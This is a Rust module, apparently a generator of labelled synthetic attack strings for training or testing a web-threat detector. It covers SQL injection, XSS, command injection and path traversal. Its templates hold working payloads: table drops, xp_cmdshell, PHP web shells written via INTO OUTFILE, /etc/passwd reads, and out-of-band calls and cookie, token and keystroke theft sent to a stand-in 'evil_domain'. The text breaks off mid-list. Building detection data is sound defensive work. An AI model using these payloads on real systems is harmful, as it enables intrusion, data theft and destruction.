//! Web payload grammars: SQL injection (union, boolean, time, error, stacked, auth bypass,
//! out-of-band; MySQL, MSSQL, PostgreSQL, Oracle, SQLite), XSS (tags and event handlers,
//! `javascript:` and `data:` URIs, SVG/MathML, breakouts, template injection, DOM sinks),
//! command injection (separators with commands, code-injection sinks) and path traversal
//! (encoded dot-dot units, targets on Linux and Windows, wrappers).

use super::context::{self, web_path, web_value, Os};
use super::encode::{self, UrlLevel};
use super::vocab::alnum_lower;
use super::{Generator, Rng};
use crate::threat::ThreatType;

pub const GENERATORS: &[Generator] = &[
    Generator { name: "sqli_web", label: ThreatType::SqlInjection, weight: 60, make: sqli_web },
    Generator { name: "sqli_db_log", label: ThreatType::SqlInjection, weight: 12, make: sqli_db_log },
    Generator { name: "sqli_tool", label: ThreatType::SqlInjection, weight: 5, make: sqli_tool },
    Generator { name: "xss_web", label: ThreatType::Xss, weight: 70, make: xss_web },
    Generator { name: "xss_stored", label: ThreatType::Xss, weight: 10, make: xss_stored },
    Generator { name: "xss_dom", label: ThreatType::Xss, weight: 8, make: xss_dom },
    Generator { name: "cmdi_web", label: ThreatType::CommandInjection, weight: 60, make: cmdi_web },
    Generator { name: "cmdi_code", label: ThreatType::CommandInjection, weight: 15, make: cmdi_code },
    Generator { name: "cmdi_app_log", label: ThreatType::CommandInjection, weight: 8, make: cmdi_app_log },
    Generator { name: "traversal_web", label: ThreatType::PathTraversal, weight: 55, make: traversal_web },
    Generator { name: "traversal_path", label: ThreatType::PathTraversal, weight: 25, make: traversal_path },
    Generator { name: "traversal_app_log", label: ThreatType::PathTraversal, weight: 8, make: traversal_app_log },
];

/// Slots of the web grammars.
pub fn slot(name: &str, rng: &mut Rng) -> Option<String> {
    let v = match name {
        "sq_tab" => rng.pick(SQL_TABLES).to_string(),
        "sq_col" => rng.pick(SQL_COLUMNS).to_string(),
        "sq_fn" => rng.pick(SQL_INFO_FUNCTIONS).to_string(),
        "sq_subq" => rng.fill_one(SQL_SUBQUERIES),
        "sq_s" => rng.range(1, 15).to_string(),
        "sq_w" => alnum_lower(rng, 4, 4),
        "sq_true" => tautology(rng),
        "sq_false" => contradiction(rng),
        "js" => rng.fill_one(JS_PAYLOADS),
        "b64_alert" => encode::base64(
            rng.fill_one(&[
                "alert(«n9»)",
                "alert(document.cookie)",
                "fetch('//«evil_domain»/?c='+document.cookie)",
                "alert(document.domain)",
            ])
            .as_bytes(),
        ),
        "charcodes" => rng.fill("alert(«n99»)").bytes().map(|b| b.to_string()).collect::<Vec<_>>().join(","),
        "b64_script" => encode::base64(rng.fill("<script>«js»</script>").as_bytes()),
        "b64_php" => encode::base64(rng.fill("<?php system('«lincmd»'); ?>").as_bytes()),
        "js_url" => rng.fill("«http:|https:|»//«evil_domain»/«x|a|s|xss|hook|p»«.js|.js|»"),
        "lincmd" => rng.fill_one(LINUX_INJECTED),
        "wincmd" => rng.fill_one(WINDOWS_INJECTED),
        _ => return None,
    };
    Some(v)
}

// ---------------------------------------------------------------- SQL injection

const SQL_TABLES: &[&str] = &[
    "users",
    "user",
    "admin",
    "admins",
    "accounts",
    "members",
    "customers",
    "login",
    "logins",
    "tbl_users",
    "wp_users",
    "employees",
    "orders",
    "products",
    "credit_cards",
    "passwords",
    "sysusers",
    "mysql.user",
    "information_schema.tables",
    "information_schema.columns",
    "information_schema.schemata",
    "pg_shadow",
    "pg_user",
    "sqlite_master",
    "all_tables",
    "all_users",
    "dual",
    "master..sysdatabases",
    "sys.objects",
    "sysobjects",
    "dbo.users",
    "public.users",
    "app_users",
    "staff",
    "clients",
    "payments",
    "sessions",
];
const SQL_COLUMNS: &[&str] = &[
    "username",
    "user",
    "password",
    "passwd",
    "pass",
    "email",
    "name",
    "login",
    "pwd",
    "hash",
    "password_hash",
    "credit_card",
    "ssn",
    "user_login",
    "user_pass",
    "table_name",
    "column_name",
    "schema_name",
    "usename",
    "passwd",
    "banner",
    "sql",
    "id",
    "uid",
    "api_key",
    "token",
    "secret",
    "card_number",
    "cvv",
    "salt",
];
const SQL_INFO_FUNCTIONS: &[&str] = &[
    "@@version",
    "version()",
    "user()",
    "database()",
    "current_user",
    "system_user",
    "@@hostname",
    "@@datadir",
    "db_name()",
    "current_database()",
    "sqlite_version()",
    "schema()",
    "session_user",
    "@@servername",
    "user_name()",
    "suser_sname()",
    "current_schema()",
    "pg_backend_pid()",
];
const SQL_SUBQUERIES: &[&str] = &[
    "select «sq_fn»",
    "select «sq_col» from «sq_tab» limit «n9»,1",
    "select «sq_col» from «sq_tab» limit 1",
    "select top 1 «sq_col» from «sq_tab»",
    "select banner from v$version where rownum=1",
    "select table_name from information_schema.tables where table_schema=database() limit «n9»,1",
    "select column_name from information_schema.columns where table_name='«sq_tab»' limit «n9»,1",
    "select group_concat(«sq_col»,0x3a,«sq_col») from «sq_tab»",
    "select string_agg(«sq_col»,',') from «sq_tab»",
    "select name from sqlite_master where type='table' limit 1",
    "select name from sysobjects where xtype='U'",
    "select count(*) from «sq_tab»",
    "select «sq_col» from «sq_tab» where «sq_col»='admin'",
    "select password from «sq_tab» where username='«user»'",
    "select usename from pg_user limit 1",
    "select owner from all_tables where rownum=1",
];

/// `a=a`-like conditions that are always true, in the shapes injection tools and people write.
fn tautology(rng: &mut Rng) -> String {
    let n = rng.range(1, 9999);
    let w = alnum_lower(rng, 1, 5);
    match rng.below(12) {
        0..=2 => format!("{n}={n}"),
        3 => format!("'{w}'='{w}'"),
        4 => format!("{}>{}", n + rng.range(1, 9), n),
        5 => format!("'{w}' like '{w}'"),
        6 => "true".into(),
        7 => format!("{n} between {} and {}", n - 1, n + 1),
        8 => format!("{n} in ({n})"),
        9 => "not false".into(),
        10 => format!("\"{w}\"=\"{w}\""),
        _ => format!("ascii('{}')={}", (b'A' + (n % 26) as u8) as char, 65 + n % 26),
    }
}

fn contradiction(rng: &mut Rng) -> String {
    let n = rng.range(1, 9999);
    let m = rng.range(1, 9999);
    if n == m {
        format!("{n}={}", m + 1)
    } else {
        format!("{n}={m}")
    }
}

const SQL_BREAKOUTS: &[&str] = &[
    "«n9»",
    "'",
    "'",
    "\"",
    "«n99»'",
    "«num»'",
    "«n9»\"",
    "')",
    "'))",
    "\"))",
    "«n9»)",
    "«n99»))",
    "-«n99»'",
    "«sq_w»'",
    "«user»'",
    "%'",
    "«n9»')",
    "«n9»\"))",
    "«sq_w»\"",
    "",
    "",
    "«num»",
    "-«num»",
    "«n9»'))",
    "999999.9",
    "«n9» ",
    "«word»') ",
];
const SQL_ENDINGS: &[&str] = &[
    "--",
    "-- -",
    "--+",
    "#",
    "/*",
    ";--",
    "",
    "",
    "",
    "-- «sq_w»",
    "%23",
    "%00",
    ";",
    "-- //",
    "#«sq_w»",
    " and '«sq_w»'='«sq_w»",
    " and ('«sq_w»'='«sq_w»",
    " and «n99»=«n99»",
    " or 'a'='a",
];
const SQL_JOINERS: &[&str] = &["and", "or", "AND", "OR", "And", "&&", "||", "and", "or", "xor", "OR"];

const SQL_SLEEPS: &[&str] = &[
    "sleep(«sq_s»)",
    "sleep(«sq_s»)#",
    "(select * from (select(sleep(«sq_s»)))«sq_w»)",
    "benchmark(«n9»000000,md5('«sq_w»'))",
    "benchmark(«n99»000000,sha1(1))",
    "pg_sleep(«sq_s»)",
    "(select «n99» from pg_sleep(«sq_s»))",
    "«n99»=(select «n99» from pg_sleep(«sq_s»))",
    "dbms_pipe.receive_message(chr(«n99»)||chr(«n99»),«sq_s»)",
    "«n99»=dbms_pipe.receive_message('«sq_w»',«sq_s»)",
    "dbms_lock.sleep(«sq_s»)",
    "«n9»=like('ABCDEFG',upper(hex(randomblob(«n9»00000000/2))))",
    "if(«sq_true»,sleep(«sq_s»),0)",
    "if(ascii(substr(«sq_fn»,1,1))>«n99»,sleep(«sq_s»),0)",
    "(case when («sq_true») then pg_sleep(«sq_s») else pg_sleep(0) end) is null",
    "elt(«sq_true»,sleep(«sq_s»))",
    "«n99»=(case when («sq_true») then sleep(«sq_s») else «n99» end)",
    "sleep(«sq_s»)='",
];
const SQL_ERRORS: &[&str] = &[
    "extractvalue(«n99»,concat(0x7e,(«sq_subq»),0x7e))",
    "updatexml(«n99»,concat(0x3a,(«sq_subq»)),«n99»)",
    "«n99»=convert(int,(«sq_subq»))",
    "cast((«sq_subq») as int)",
    "«n99»=cast((«sq_subq») as numeric)",
    "(select «n99» from(select count(*),concat((«sq_subq»),floor(rand(0)*2))x from information_schema.tables group by x)a)",
    "«n99»=ctxsys.drithsx.sn(«n99»,(«sq_subq»))",
    "«n99»=utl_inaddr.get_host_name((«sq_subq»))",
    "exp(~(select * from (select «sq_fn»)a))",
    "geometrycollection((select * from(select * from(select «sq_fn»)a)b))",
    "json_keys((select convert((«sq_subq») using utf8mb4)))",
    "«n99» in (select «sq_fn»)",
    "«n99»=(select upper(xmltype(chr(60)||chr(58)||(«sq_subq»)||chr(62))) from dual)",
    "row(«n99»,«n99»)>(select count(*),concat(«sq_fn»,0x3a,floor(rand(0)*2)) x from (select «n99» union select «n99»)a group by x limit 1)",
];
const SQL_STACKED: &[&str] = &[
    "drop table «sq_tab»",
    "DROP TABLE «sq_tab»",
    "delete from «sq_tab»",
    "truncate table «sq_tab»",
    "insert into «sq_tab»(«sq_col»,«sq_col») values('«sq_w»','«sq_w»')",
    "update «sq_tab» set «sq_col»='«sq_w»' where «sq_col»='admin'",
    "update users set is_admin=1 where username='«user»'",
    "exec xp_cmdshell '«wincmd»'",
    "exec master..xp_cmdshell '«wincmd»'",
    "EXEC sp_configure 'show advanced options',1;RECONFIGURE;EXEC sp_configure 'xp_cmdshell',1;RECONFIGURE",
    "exec master..xp_dirtree '\\\\«evil_domain»\\«sq_w»'",
    "declare @q varchar(99);set @q='\\\\«evil_domain»\\«sq_w»';exec master.dbo.xp_dirtree @q",
    "shutdown",
    "waitfor delay '0:0:«sq_s»'",
    "WAITFOR DELAY '00:00:«sq_s»'",
    "select pg_sleep(«sq_s»)",
    "create user «sq_w» identified by «sq_w»",
    "grant all privileges on *.* to '«sq_w»'@'%'",
    "copy (select '') to program '«lincmd»'",
    "COPY «sq_w» FROM PROGRAM '«lincmd»'",
    "select pg_read_file('/etc/passwd')",
    "alter user «user» with password '«sq_w»'",
    "create table «sq_w»(cmd_output text)",
    "select load_file('/etc/passwd')",
    "exec sp_addsrvrolemember '«sq_w»','sysadmin'",
    "select sleep(«sq_s»)",
];
const SQL_BLIND: &[&str] = &[
    "ascii(substring((«sq_subq»),«n9»,1))>«n99»",
    "ascii(substr((«sq_subq»),«n9»,1))=«n99»",
    "substring(«sq_fn»,1,1)='«n9»'",
    "(select substr(«sq_col»,1,1) from «sq_tab» limit 1)='«sq_w»'",
    "length(database())=«n9»",
    "«n99»=(select count(*) from «sq_tab»)",
    "exists(select * from «sq_tab»)",
    "(select 'x' from «sq_tab» limit 1)='x'",
    "ord(mid((«sq_subq»),«n9»,1))>«n99»",
    "unicode(substring((«sq_subq»),«n9»,1))>«n99»",
    "«n99» rlike (select (case when («sq_true») then «n99» else 0x28 end))",
    "make_set(«sq_true»,«n99»)",
    "(select case when («sq_true») then 1 else 1/0 end)=1",
    "«sq_true»",
    "«sq_true»",
    "«sq_false»",
];
const SQL_AUTH_BYPASS: &[&str] = &[
    "«user»'«--|#|/*|-- -| --»",
    "' or ''='",
    "' or 1=1 limit 1 --",
    "«user»' or '1'='1",
    "\") or (\"a\"=\"a",
    "' or 'x'='x",
    "'||'1'='1",
    "'='",
    "' or 1 --",
    "«n9»' or '«n9»'='«n9»' /*",
    "' OR TRUE--",
    "«user»') or ('1'='1'--",
    "' or «sq_true»#",
    "\" or «sq_true»--",
    "') or «sq_true»--",
    "«user»\" #",
    "' or username like '%",
    "' or 1=1; --",
];
const SQL_FILE_OOB: &[&str] = &[
    "union select load_file('/etc/passwd')«--|#|»",
    "union select '<?php system($_GET[\"«c|cmd|x»\"]); ?>' into outfile '/var/www/html/«sq_w».php'«--|#»",
    "union select «n9»,'<?php eval($_POST[«sq_w»]);?>',«n9» into dumpfile '/var/www/«sq_w».php'#",
    "and load_file(concat('\\\\\\\\',(«sq_subq»),'.«evil_domain»\\\\«sq_w»'))",
    "and (select utl_http.request('http://«evil_domain»/'||(«sq_subq»)) from dual) is not null",
    "union select dblink_connect('host=«evil_domain» user='||(«sq_subq»)||' dbname=x')--",
    "and 1=(select 1 from openrowset('SQLOLEDB','server=«evil_domain»;uid=sa;pwd=x','select 1'))--",
    "into outfile '/tmp/«sq_w».txt'",
    "union select «n9»,«n9» from «sq_tab» into outfile '/var/lib/mysql-files/«sq_w»'",
];

/// One SQL injection payload.
fn sqli_payload(rng: &mut Rng) -> String {
    let pre = rng.fill_one(SQL_BREAKOUTS);
    let end = rng.fill_one(SQL_ENDINGS);
    let sp = if pre.is_empty() || pre.ends_with(' ') { "" } else { " " };
    let joiner = rng.pick(SQL_JOINERS);
    let mut p = match rng.below(118) {
        0..=21 => format!("{pre}{sp}{}{end}", union_select(rng)),
        22..=35 => format!("{pre}{sp}{joiner} {}{end}", rng.fill_one(SQL_BLIND)),
        36..=47 => {
            if rng.chance(25) {
                format!("{pre};{}{end}", rng.fill("«waitfor delay '0:0:«sq_s»'|select pg_sleep(«sq_s»)|select sleep(«sq_s»)»"))
            } else {
                format!("{pre}{sp}{joiner} {}{end}", rng.fill_one(SQL_SLEEPS))
            }
        }
        48..=57 => format!("{pre}{sp}{joiner} {}{end}", rng.fill_one(SQL_ERRORS)),
        58..=67 => format!("{pre};{}{}{end}", rng.pick(&["", " "]), rng.fill_one(SQL_STACKED)),
        68..=79 => rng.fill_one(SQL_AUTH_BYPASS),
        80..=85 if rng.chance(25) => rng.fill("«ORDER BY|order by|GROUP BY» «n99»"),
        80..=85 => format!("{pre}{sp}{}", rng.fill("«order by «n99»|ORDER BY «n9»|group by «n9»,«n9» having «sq_true»|order by «n9» desc|procedure analyse()|having «sq_true»»")) + &end,
        86..=90 => format!("{pre}{sp}{}", rng.fill_one(SQL_FILE_OOB)),
        95..=97 => rng.fill_one(SQL_BARE_STATEMENTS),
        91..=94 => {
            // Concatenation into a string context: '||(select ...)||' and MSSQL's '+(...)+'.
            rng.fill_one(SQL_CONCATENATIONS)
        }
        _ => sqlmap_like(rng),
    };
    if rng.chance(18) {
        p = encode::mixed_case(&p, rng);
    }
    if rng.chance(12) {
        p = encode::sql_keyword_comments(&p, rng);
    }
    if rng.chance(12) {
        p = encode::sql_spaces(&p, rng);
    }
    if rng.chance(6) {
        // Quotes hidden as hex/char() strings.
        let w = alnum_lower(rng, 5, 5);
        p = format!("{p} and {}={}", encode::sql_string(&w, rng), encode::sql_string(&w, rng));
    }
    p
}

/// Statements payload lists carry on their own (stacked after a break-out, or typed into a SQL
/// console the attacker reached): information gathering and file or command access.
const SQL_BARE_STATEMENTS: &[&str] = &[
    "select @@version", "select @@version;", "select version();", "select user();", "select system_user;",
    "select current_setting('«data_directory|config_file|log_connections|is_superuser»');", "select user from mysql.user;",
    "select host, user, authentication_string from mysql.user", "select name, password_hash from sys.sql_logins",
    "select username, password from dba_users", "select usename, passwd from pg_shadow;", "select load_file('/etc/passwd');",
    "select pg_read_file('«/etc/passwd|postgresql.conf|pg_hba.conf»', 0, 200);", "select pg_ls_dir('./');",
    "create table «sq_w» (input TEXT); copy «sq_w» from '/etc/passwd';", "create table «sq_w» (input TEXT);",
    "exec master..xp_cmdshell 'dir c:\\'", "exec xp_regread 'HKEY_LOCAL_MACHINE','SYSTEM\\CurrentControlSet\\Services\\lanmanserver\\parameters','nullsessionshares'",
    "select * from openrowset('SQLOLEDB','';'sa';'','select @@version')", "select table_name from information_schema.tables",
    "select column_name from information_schema.columns where table_name = '«sq_tab»'", "select * from «sq_tab» where 1=1",
    "select schema_name from information_schema.schemata", "select name from master..sysdatabases", "select banner from v$version",
    "select sys_context('userenv','current_user') from dual", "select * from all_users", "select sqlite_version();",
    "select group_concat(name) from sqlite_master where type='table'", "select @@datadir", "select is_srvrolemember('sysadmin')",
    "select lo_import('/etc/passwd')", "select into outfile '/tmp/«sq_w»'", "show grants;", "select database()",
];

/// What the one interesting column of a `union select` reads.
const UNION_COLUMNS: &[&str] = &[
    "«sq_fn»",
    "«sq_col»",
    "concat(«sq_col»,0x3a,«sq_col»)",
    "group_concat(«sq_col»)",
    "«sq_col»||':'||«sq_col»",
    "table_name",
    "column_name",
    "load_file('/etc/passwd')",
    "«sq_fn»",
    "concat_ws(0x3a,«sq_fn»,«sq_fn»)",
    "schema_name",
    "name",
    "password",
    "@@version",
    "string_agg(«sq_col»,',')",
];

/// String-context injections: `'||(select ...)||'` and MSSQL's `'+(...)+'`.
const SQL_CONCATENATIONS: &[&str] = &[
    "'||(«sq_subq»)||'",
    "'+(«sq_subq»)+'",
    "\"||(«sq_subq»)||\"",
    "'||(select «sq_fn»)::text||'",
    "' + (select top 1 name from sysobjects) + '",
    "'||«sq_fn»||'",
    "«n99»'||(select «sq_fn»)||'",
];

/// `union select` with a consistent column list.
fn union_select(rng: &mut Rng) -> String {
    let columns = rng.range(1, 9) as usize;
    let filler = rng.pick(&["null", "NULL", "«n»", "«n»", "'«sq_w»'", "«n»", "«n»"]);
    let mut cols: Vec<String> = (0..columns)
        .map(|i| match filler {
            "«n»" => (i + 1).to_string(),
            f => rng.fill(f),
        })
        .collect();
    let interesting = rng.below(columns.max(1));
    if rng.chance(70) {
        cols[interesting] = rng.fill_one(UNION_COLUMNS);
    }
    let from = rng.fill(
        "«| from «sq_tab»| from «sq_tab»| from «sq_tab» where «sq_true»| from «sq_tab» limit «n9»,1| from information_schema.tables where table_schema=database()| from information_schema.columns where table_name='«sq_tab»'| from dual| from sqlite_master| from «sq_tab» order by 1| from master..sysdatabases»",
    );
    let kw = rng.pick(&[
        "union select",
        "union all select",
        "UNION SELECT",
        "UNION ALL SELECT",
        "Union Select",
        "union distinct select",
        "union(select",
        "uNiOn SeLeCt",
    ]);
    let close = if kw.ends_with("(select") { ")" } else { "" };
    format!("{kw} {}{from}{close}", cols.join(","))
}

/// Tables cross-joined to make a query slow (a "heavy query" time test).
const SQL_HEAVY_TABLES: &[&str] = &[
    "sysusers",
    "rdb$fields",
    "rdb$types",
    "rdb$collations",
    "rdb$functions",
    "sysibm.systables",
    "all_users",
    "information_schema.columns",
    "information_schema.tables",
    "pg_class",
    "sqlite_master",
    "syscolumns",
    "domain.domains",
];

/// The shapes automated injection tools send: a boundary that closes the original context
/// (numbers, quotes, parentheses, `in boolean mode)`, `as x where n=n`), a test (boolean,
/// error, time, union, stacked heavy query) and a suffix that comments out or re-balances the
/// rest, with random numbers and tags.
fn sqlmap_like(rng: &mut Rng) -> String {
    let n = rng.range(1, 9999);
    let m = rng.range(1, 9999);
    let k = rng.range(1, 9999);
    let s = rng.range(1, 9);
    let tag = alnum_lower(rng, 4, 4);
    let marker = |rng: &mut Rng| format!("0x71{}71", encode::hex(&alnum_lower(rng, 3, 3)));
    let negative = rng.chance(35);
    let base = if negative {
        format!("-{n}")
    } else if rng.chance(60) {
        "1".to_string()
    } else {
        n.to_string()
    };
    let close = rng.pick(&[
        "",
        "",
        "'",
        "'",
        "\"",
        ")",
        "')",
        "\")",
        "))",
        "'))",
        "\"))",
        ")))",
        "')))",
        "%'",
        "' in boolean mode)",
        "\" in boolean mode)",
    ]);
    let glue = match rng.below(8) {
        0 => format!(" where {k}={k}"),
        1 => format!(" as {} where {k}={k}", alnum_lower(rng, 4, 4)),
        _ => String::new(),
    };
    let join = if negative || rng.chance(30) { rng.pick(&["or", "OR"]) } else { rng.pick(&["and", "AND", "and"]) };
    let heavy = {
        let table = rng.pick(SQL_HEAVY_TABLES);
        let count = rng.range(2, 7);
        (1..=count).map(|i| format!("{table} as t{i}")).collect::<Vec<_>>().join(",")
    };
    let test = match rng.below(16) {
        0 | 1 => format!("{m}={m}"),
        2 | 3 => format!("{m}={k}"),
        4 => format!("({m}={k})*{k}"),
        5 => format!("elt({m}={k},{k})"),
        6 => format!("make_set({m}={m},{k})"),
        7 => format!("{m}=(select count(*) from {heavy})"),
        8 => format!("sleep({s})"),
        9 => format!("(select {m} from (select(sleep({s}))){tag})"),
        10 => format!("{m}=dbms_pipe.receive_message(chr({})||chr({})||chr({})||chr({}),{s})", rng.range(65, 90), rng.range(65, 90), rng.range(65, 90), rng.range(65, 90)),
        11 => format!("{m}=like('abcdefg',upper(hex(randomblob({s}00000000/2))))"),
        12 => format!("{m} rlike (select (case when ({m}={k}) then {m} else 0x28 end))"),
        13 => format!("extractvalue({m},concat(0x5c,{},(select (elt({m}={m},1))),{}))", marker(rng), marker(rng)),
        14 => format!("{m}=convert(int,(select char(113)+char({})+char({})+(select (case when ({m}={m}) then char(49) else char(48) end))+char(113)))", rng.range(97, 122), rng.range(97, 122)),
        _ => format!("{m}=(case when ({m}={k}) then {m} else null end)"),
    };
    let suffix = match rng.below(12) {
        0..=2 => String::new(),
        3 => "--".to_string(),
        4 => format!("-- {tag}"),
        5 => "#".to_string(),
        6 => format!("# {tag}"),
        7 => format!(" and '{tag}'='{tag}"),
        8 => format!(" and ('{tag}'='{tag}"),
        9 => format!(" and (('{tag}' like '{tag}"),
        10 => format!(" and \"{tag}\"=\"{tag}"),
        _ => format!(" and ({n}={n}"),
    };
    match rng.below(10) {
        0 => {
            let width = rng.range(1, 10) as usize;
            let mut cols: Vec<String> =
                (0..width).map(|_| if rng.chance(50) { "null".to_string() } else { k.to_string() }).collect();
            if rng.chance(50) {
                let at = rng.below(width);
                cols[at] = format!("concat({},{},{})", marker(rng), marker(rng), marker(rng));
            }
            format!("{base}{close} union all select {}{}", cols.join(","), rng.pick(&["#", "--", "-- -", ""]))
        }
        1 => {
            let stacked = match rng.below(5) {
                0 => format!("select pg_sleep({s})"),
                1 => format!("waitfor delay '0:0:{s}'"),
                2 => format!("select count(*) from {heavy}"),
                3 => format!("select dbms_pipe.receive_message(chr({m}),{s}) from dual"),
                _ => format!("select like('abcdefg',upper(hex(randomblob({s}00000000/2))))"),
            };
            format!("{base}{close}{glue};{stacked}{}", rng.pick(&["--", "#", ""]))
        }
        2 => format!("{base}{close};iif({m}={k},1,1/0)"),
        _ => format!("{base}{close}{glue} {join} {test}{suffix}"),
    }
}

fn sqli_web(rng: &mut Rng) -> String {
    let p = sqli_payload(rng);
    let rule = rng.pick(&[
        "SQL Injection Attack Detected via libinjection",
        "SQL Injection Attack",
        "Detects classic SQL injection probings",
        "AWS#AWSManagedRulesSQLiRuleSet#SQLi_QUERYARGUMENTS",
        "SQLi: boolean-based tautology",
        "942100",
    ]);
    web_value(rng, &p, Some(rule))
}

/// The injected statement as the database or the application logged it.
fn sqli_db_log(rng: &mut Rng) -> String {
    let p = sqli_payload(rng);
    let quoted = rng.chance(60);
    let stmt = if quoted {
        rng.fill("SELECT «*|id, name, price|«sq_col», «sq_col»» FROM «products|users|articles|orders|items|news» WHERE «id|name|category|slug|username» = '") + &p + "'"
    } else {
        rng.fill("SELECT «*|id, title» FROM «products|posts|catalog|invoices» WHERE «id|pid|cat_id» = ") + &p
    };
    let near: String = p.chars().take(30).collect();
    match rng.below(6) {
        0 => format!("{} UTC [{}] ERROR:  syntax error at or near \"{}\" at character {} STATEMENT:  {stmt}", rng.fill("«ts_sql».«n99»«n9»"), rng.fill("«pid»"), near.split_whitespace().next().unwrap_or("'"), rng.range(20, 90)),
        1 => format!("PHP Warning:  mysqli_query(): You have an error in your SQL syntax; check the manual that corresponds to your MySQL server version for the right syntax to use near '{near}' at line 1 in /var/www/html/{}.php on line {}", rng.fill("«word»"), rng.range(10, 400)),
        2 => format!("{}\t{} Query\t{stmt}", rng.fill("«ts_iso»"), rng.range(3, 9000)),
        3 => format!("{} ERROR [{}] org.hibernate.engine.jdbc.spi.SqlExceptionHelper - Incorrect syntax near '{near}'. Query: {stmt}", rng.fill("«ts_java»"), rng.fill("«http-nio-8080-exec-«n9»|main|pool-1-thread-«n9»»")),
        4 => format!("# Query_time: {}.{:06}  Lock_time: 0.000000 Rows_sent: {}  Rows_examined: {} SET timestamp={}; {stmt};", rng.range(0, 16), rng.range(0, 999_999), rng.range(0, 50), rng.range(0, 9000), rng.fill("«ts_epoch»")),
        _ => format!("sqlite3.OperationalError: near \"{}\": syntax error [SQL: {stmt}]", near.split_whitespace().last().unwrap_or("'")),
    }
}

fn sqli_tool(rng: &mut Rng) -> String {
    let url = rng.fill("http«s|»://«fqdn»«webpath»?«param»=«n99»");
    let cmd = rng.fill(
        "«sqlmap|python3 sqlmap.py|sqlmap.py» -u \"URL\" «--batch|--dbs|--dump -T «sq_tab»|--os-shell|--level=5 --risk=3|--tamper=space2comment,between|--technique=BEUST|--current-user --passwords|-D «word» --tables»«| --random-agent| --batch --threads=«n9»»",
    )
    .replace("URL", &url);
    if rng.chance(40) {
        let ua = rng.fill("sqlmap/1.«n9».«n9»#stable (https://sqlmap.org)");
        let p = sqli_payload(rng);
        let q = encode::url_encode(&p, UrlLevel::Reserved, rng);
        return rng.fill("«ip» - - [«ts_apache»] \"GET «webpath»?«param»=")
            + &q
            + &format!(" HTTP/1.1\" 200 {} \"-\" \"{ua}\"", rng.range(100, 9000));
    }
    context::command(rng, &cmd, Os::Linux)
}

// ---------------------------------------------------------------- XSS

const JS_PAYLOADS: &[&str] = &[
    "alert(1)",
    "alert(1)",
    "alert(«n99»)",
    "alert('XSS')",
    "alert(\"xss\")",
    "alert(document.domain)",
    "alert(document.cookie)",
    "prompt(«n99»)",
    "prompt(document.domain)",
    "confirm(«n99»)",
    "confirm`«n9»`",
    "alert`«n9»`",
    "print()",
    "alert(/«sq_w»/.source)",
    "(alert)(«n9»)",
    "alert?.(«n9»)",
    "top.alert(«n9»)",
    "fetch('//«evil_domain»/?c='+document.cookie)",
    "fetch(`https://«evil_domain»/log?c=${document.cookie}`)",
    "new Image().src='http://«evil_domain»/c.php?c='+document.cookie",
    "document.location='http://«evil_domain»/steal?c='+document.cookie",
    "location.href='//«evil_domain»/?'+btoa(document.cookie)",
    "navigator.sendBeacon('//«evil_domain»/b',localStorage.getItem('token'))",
    "eval(atob('«b64_alert»'))",
    "eval(String.fromCharCode(«charcodes»))",
    "window['al'+'ert'](«n9»)",
    "top[/al/.source+/ert/.source](«n9»)",
    "self['\\x61lert'](«n9»)",
    "setTimeout('alert(«n9»)',«n99»)",
    "Function('alert(«n9»)')()",
    "[].constructor.constructor('alert(«n9»)')()",
    "import('//«evil_domain»/x.js')",
    "$.getScript('//«evil_domain»/x.js')",
    "var s=document.createElement('script');s.src='//«evil_domain»/h.js';document.body.appendChild(s)",
    "document.write('<img src=//«evil_domain»/?'+document.cookie+'>')",
    "throw onerror=alert,«n9»",
    "window.onerror=alert;throw «n9»",
    "a=alert,a(«n9»)",
    "document.onkeypress=function(e){fetch('//«evil_domain»/k?'+e.key)}",
    "document.body.innerHTML='<h1>Hacked</h1>'",
    "eval(location.hash.slice(1))",
    "alert(String.fromCharCode(88,83,83))",
    "console.log(document.cookie);alert(«n9»)",
    "javascript:alert(«n9»)",
    "alert(window.origin)",
    "Reflect.apply(alert,null,[«n9»])",
    "\\u0061lert(«n9»)",
];
const XSS_TAG_EVENTS: &[&str] = &[
    "<img src=«x|x|1|/|#|\"x\"|'x'» onerror=«Q»«js»«Q»>",
    "<img src=«x|1» «onerror|OnErRoR|ONERROR»=«Q»«js»«Q»/>",
    "<svg onload=«Q»«js»«Q»>",
    "<svg/onload=«js»>",
    "<svg «onload|onLoad»=«Q»«js»«Q»></svg>",
    "<body onload=«Q»«js»«Q»>",
    "<body onpageshow=«js»>",
    "<input autofocus onfocus=«Q»«js»«Q»>",
    "<input type=«text|image» src=x onerror=«js»>",
    "<details open ontoggle=«Q»«js»«Q»>",
    "<video src=x onerror=«js»>",
    "<video><source onerror=«Q»«js»«Q»>",
    "<audio src onloadstart=«js»>",
    "<iframe onload=«js»>",
    "<iframe src=x onload=«Q»«js»«Q»></iframe>",
    "<marquee onstart=«js»>«word»</marquee>",
    "<select autofocus onfocus=«js»>",
    "<textarea autofocus onfocus=«js»>",
    "<keygen autofocus onfocus=«js»>",
    "<object data=x onerror=«js»>",
    "<a href=# onclick=«Q»«js»«Q»>«click|here|link»</a>",
    "<a onmouseover=«Q»«js»«Q»>«hover|xxs link»</a>",
    "<div onmouseover=«Q»«js»«Q»>«word»</div>",
    "<div onpointerenter=«js»>x</div>",
    "<x contenteditable onblur=«js»>lose focus!</x>",
    "<«x|xss|custom-tag» onclick=«js»>click</«x|xss|custom-tag»>",
    "<style>@keyframes «sq_w»{}</style><«div|b|p» style=\"animation-name:«sq_w»\" onanimationstart=«Q»«js»«Q»></«div|b|p»>",
    "<form><button formaction=javascript:«js»>X</button>",
    "<table background=\"javascript:«js»\">",
    "<body onhashchange=«js»><a href=#x>clickit",
    "<b onmouseover=«js»>«hover me|bold»</b>",
    "<img src=x:x onerror=«js»>",
    "<image src onerror=«js»>",
    "<img/src/onerror=«js»>",
    "<img src=`x` onerror=«js»>",
    "<svg><animate onbegin=«js» attributeName=x dur=1s>",
    "<svg><set onbegin=«js» attributeName=x>",
    "<math><maction actiontype=\"statusline\" xlink:href=\"javascript:«js»\">CLICKME</maction></math>",
    "<frameset onload=«js»>",
    "<embed src=x onerror=«js»>",
    "<meter onmouseover=«js»>0</meter>",
    "<isindex type=image src=1 onerror=«js»>",
    "<body onresize=«js»>",
    "<svg><style>{}</style><img src=x onerror=«js»></svg>",
];
const XSS_URI_VECTORS: &[&str] = &[
    "<a href=\"«JS»«js»\">«click|Click me|link|x»</a>",
    "<a href=«JS»«js»>«x|go»</a>",
    "<iframe src=\"«JS»«js»\"></iframe>",
    "<iframe src=«JS»«js»>",
    "<form action=\"«JS»«js»\"><input type=submit>",
    "<object data=\"«JS»«js»\">",
